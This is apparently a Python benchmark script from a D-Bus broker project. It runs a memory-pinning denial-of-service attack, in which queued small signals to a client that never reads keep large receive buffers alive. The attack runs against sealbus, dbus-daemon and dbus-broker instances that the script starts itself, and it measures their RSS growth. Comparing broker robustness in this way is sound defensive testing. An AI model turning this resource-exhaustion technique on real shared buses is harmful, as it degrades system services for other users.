"""Attack (not a test): small queued messages pinning whole receive buffers.

    .venv/bin/python -m benchmarks.attack_pinned [--sealbus-cmd CMD] [TARGET ...]

A receiver that never reads; its socket is filled first, so the broker must
queue what comes next for it. Then, ``rounds`` times: an 80-byte signal to it,
and a broadcast signal nobody receives. Each broker runs with the same
limits; printed: its RSS growth over the attack and the bytes the queue holds.
A broker that forwards views of its receive buffers and keeps the small
signal's view queued keeps the buffer alive with it. Two variants: 60 rounds
with an 8 MiB broadcast (its buffer, right-sized, was reused for the next
signal), and 1000 rounds with a 63 KiB one (every signal ends up in a 64 KiB
receive buffer of its own).

sealbus, dbus-daemon and dbus-broker are started as benchmarks/run_bench.py
starts them (dbus-broker through benchmarks/dbus-broker-wrap), with a config
holding the limits below. Results go to docs/attacks.md by hand.
"""

import argparse
import contextlib
import os
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import time

from jeepney.low_level import Parser

from benchmarks.rawauth import read_line
from broker.wire.message import build_message

MiB = 1 << 20
FILL = 32 * 1024  # filler signals that fill the receiver's socket...
FILL_COUNT = 16  # ...512 KiB: more than a unix socket holds (net.core.wmem_default is ~208 KiB)

# The same <limit>s for every broker; sealbus also gets its per-user byte limit.
LIMITS = {"max_outgoing_bytes": 16 * MiB, "max_message_size": 32 * MiB}
SEALBUS_LIMITS = {"max_outgoing_bytes_per_user": 32 * MiB}


class Client:
    """A bare-socket D-Bus client: AUTH EXTERNAL, Hello, raw messages out."""

    def __init__(self, path: str):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(30)
        self.sock.connect(path)
        self.sock.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        line = read_line(self.sock)
        assert line.startswith(b"OK"), line
        self.sock.sendall(b"BEGIN\r\n")
        self.parser = Parser()
        self.serial = 0
        self.unique_name = self.call_driver("Hello")[0]

    def send(self, **kw) -> int:
        self.serial += 1
        self.sock.sendall(build_message(kw.pop("type", 4), self.serial, **kw))
        return self.serial

    def call_driver(self, member: str, signature: str = "", body=()) -> tuple:
        serial = self.send(type=1, path="/org/freedesktop/DBus", interface="org.freedesktop.DBus", member=member,
                           destination="org.freedesktop.DBus", signature=signature, body=body)  # fmt: skip
        return self.reply_to(serial).body

    def reply_to(self, serial: int):
        """Read until the reply to ``serial`` comes (what comes before it is dropped); that reply."""
        while True:
            msg = self.parser.get_next_message()
            if msg is None:
                self.parser.add_data(self.sock.recv(65536))
                continue
            if msg.header.fields.get(5) == serial:  # REPLY_SERIAL
                return msg

    def close(self) -> None:
        self.sock.close()


def rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def attack(path: str, pid: int, rounds: int = 60, big: int = 8 * MiB) -> dict:
    """Run the attack against the bus at socket ``path`` whose broker process is ``pid``.

    Returns RSS before/after (KiB) and the bytes the attack got queued for the victim."""
    victim = Client(path)  # from here on it never reads
    attacker = Client(path)
    sig = dict(path="/a", interface="org.x.Pin", destination=victim.unique_name)
    for _ in range(FILL_COUNT):
        attacker.send(member="Fill", signature="ay", body=(b"f" * FILL,), **sig)
    attacker.call_driver("GetId")  # everything before it was routed
    time.sleep(0.2)
    before = rss_kib(pid)
    small = build_message(4, 1, member="S", **sig)
    bcast = dict(path="/a", interface="org.x.Nobody", member="Big", signature="ay")
    for _ in range(rounds):
        attacker.send(member="S", **sig)
        attacker.send(body=(b"b" * (big - 200),), **bcast)
    attacker.call_driver("GetId")
    time.sleep(0.2)
    after = rss_kib(pid)
    victim.close()
    attacker.close()
    return {"before_kib": before, "after_kib": after, "growth_kib": after - before,
            "queued_small_bytes": rounds * len(small)}  # fmt: skip


def config(sock: str | None, limits: dict) -> str:
    """A bus config allowing everything, with ``limits``; ``sock`` None: no <listen> (given on the command line)."""
    rows = "".join(f'<limit name="{k}">{v}</limit>' for k, v in limits.items())
    listen = f"<listen>unix:path={sock}</listen>" if sock else ""
    return (
        "<busconfig><type>session</type>"
        f"{listen}<auth>EXTERNAL</auth>"
        '<policy context="default"><allow user="*"/><allow send_destination="*"/><allow receive_sender="*"/>'
        f'<allow own="*"/></policy>{rows}</busconfig>\n'
    )


def wait_socket(path: str, proc, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"exited with {proc.returncode}")
        try:
            Client(path).close()
            return
        except (OSError, AssertionError):
            time.sleep(0.05)
    raise RuntimeError(f"no bus at {path}")


def start(kind: str, wd: str, sealbus_cmd: str | None = None, limits: dict | None = None):
    """(process to stop, broker pid, socket path); ``limits`` replaces this attack's LIMITS."""
    from benchmarks.run_bench import WRAP, comm, descendants

    sock = os.path.join(wd, "bus")
    conf = os.path.join(wd, "bus.conf")
    if limits is None:
        limits = dict(LIMITS, **SEALBUS_LIMITS) if kind == "sealbus" else LIMITS
    with open(conf, "w") as f:
        f.write(config(sock, limits))
    log = open(os.path.join(wd, "log"), "wb")
    if kind == "sealbus":
        exe = shlex.split(sealbus_cmd) if sealbus_cmd else [os.path.join(os.path.dirname(sys.executable), "sealbus")]
        proc = subprocess.Popen([*exe, "run", "--config", conf, "--address", f"unix:path={sock}"],
                                stdout=subprocess.DEVNULL, stderr=log)  # fmt: skip
    elif kind == "dbus-daemon":
        proc = subprocess.Popen(["dbus-daemon", "--config-file=" + conf, "--nofork", "--print-address=1"],
                                stdout=subprocess.DEVNULL, stderr=log)  # fmt: skip
    else:
        proc = subprocess.Popen([sys.executable, WRAP, sock, os.path.join(wd, "journal"), "--",
                                 "dbus-broker-launch", "--scope", "user", "--config-file", conf],
                                stdout=subprocess.DEVNULL, stderr=log)  # fmt: skip
    wait_socket(sock, proc)
    pid = proc.pid
    if kind == "dbus-broker":
        pid = next(p for p in descendants(proc.pid) if comm(p) == "dbus-broker")
    return proc, pid, sock


def stop(proc) -> None:
    from benchmarks.run_bench import kill_tree

    kill_tree(proc)


@contextlib.contextmanager
def running(kind: str, prefix: str, sealbus_cmd: str | None = None, limits: dict | None = None):
    """A fresh bus of ``kind`` in a temp dir of its own: yields (broker pid, socket path); stopped and removed after."""
    wd = tempfile.mkdtemp(prefix=prefix)
    os.chmod(wd, 0o755)
    proc = None
    try:
        proc, pid, sock = start(kind, wd, sealbus_cmd, limits)
        yield pid, sock
    finally:
        if proc is not None:
            stop(proc)
        shutil.rmtree(wd, ignore_errors=True)


def print_row(kind: str, label: str, prefix: str, sealbus_cmd: str | None, measure, limits: dict | None = None) -> None:
    """Print ``kind``, ``label`` and ``measure(pid, sock)`` (the row's results, formatted) for a fresh bus.

    A target that fails (a broker missing on this machine) prints why, and must not hide the others."""
    try:
        with running(kind, prefix, sealbus_cmd, limits) as (pid, sock):
            print(f"{kind:<12} {label} {measure(pid, sock)}")
    except Exception as e:
        print(f"{kind:<12} {label} failed: {e!r}")


VARIANTS = ((60, 8 * MiB), (1000, 63 * 1024))


def _row(r: dict) -> str:
    return (f"{r['before_kib'] / 1024:>8.1f} MiB {r['after_kib'] / 1024:>8.1f} MiB "
            f"{r['growth_kib'] / 1024:>+7.1f} MiB  {r['queued_small_bytes']}")  # fmt: skip


def target_args(doc: str) -> argparse.ArgumentParser:
    """The command line the attack scripts share: which brokers (TARGET ...) and which sealbus."""
    ap = argparse.ArgumentParser(description=doc.split("\n\n", maxsplit=1)[0])
    ap.add_argument("--sealbus-cmd", help="command that runs sealbus (default: this venv's; e.g. an older tree)")
    ap.add_argument("targets", nargs="*", default=["sealbus", "dbus-daemon", "dbus-broker"])
    return ap


def main() -> None:
    args = target_args(__doc__).parse_args()
    print(
        f"limits: {LIMITS} (sealbus also {SEALBUS_LIMITS}); {FILL_COUNT} x {FILL // 1024} KiB filler, then "
        "N x (80-byte signal to the non-reader + a broadcast nobody receives)"
    )
    cols = f"{'broker':<12} {'N x broadcast':>16} {'RSS before':>12} {'RSS after':>12} {'growth':>11}"
    print(cols + "  small bytes queued")
    for kind in args.targets:
        for rounds, big in VARIANTS:
            label = f"{rounds} x {big // MiB} MiB" if big >= MiB else f"{rounds} x {big // 1024} KiB"
            print_row(kind, f"{label:>16}", "attack-pinned.", args.sealbus_cmd,
                      lambda pid, sock, rounds=rounds, big=big: _row(attack(sock, pid, rounds, big)))  # fmt: skip


if __name__ == "__main__":
    main()
